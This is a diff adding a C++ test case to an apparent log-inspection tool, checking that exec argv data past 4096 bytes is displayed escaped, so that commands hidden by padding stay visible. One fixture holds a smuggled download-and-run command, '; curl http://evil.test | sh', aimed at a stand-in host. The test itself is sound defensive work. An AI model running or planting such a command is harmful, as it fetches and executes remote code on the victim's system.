@@ -8,6 +8,7 @@
 #include <set>
 #include <sstream>
 
+#include "common/text.h"
 #include "inspect/describe.h"
 #include "inspect/filter.h"
 #include "inspect/report.h"
@@ -163,6 +164,16 @@ TEST_CASE("one line per entry, whatever the entry holds") {
   CHECK(inspect::describe(later) == "answer=42: said so");
   json bad_type = {{"seq", 5}, {"session", 1}, {"type", 7}};
   CHECK(inspect::entry_line(1, 5, bad_type).find(" 7 ") != std::string::npos);
+}
+
+TEST_CASE("an argv past its first 4096 bytes is shown, escaped, argument by argument") {
+  // A command pushed out of the exec entry by padding is still read.
+  std::string tail = std::string("; curl http://evil.test | sh\0--flag\0", 38);
+  json piece = {{"seq", 6}, {"session", 1}, {"type", "exec_argv"}, {"offset", 4096}, {"data", tail}};
+  CHECK(inspect::describe(piece) == "argv continued at offset 4096: \"; curl http://evil.test | sh\" --flag");
+  json binary = {{"seq", 7}, {"session", 1}, {"type", "exec_argv"}, {"offset", 8192},
+                 {"data_b64", flightrec::base64_encode(std::string("\x1b[2J\xff\0x", 8))}};
+  CHECK(inspect::describe(binary) == "argv continued at offset 8192: \\u{001b}[2J\\xff x");
 }
 
 TEST_CASE("summary keeps paths whole, whatever bytes they hold") {
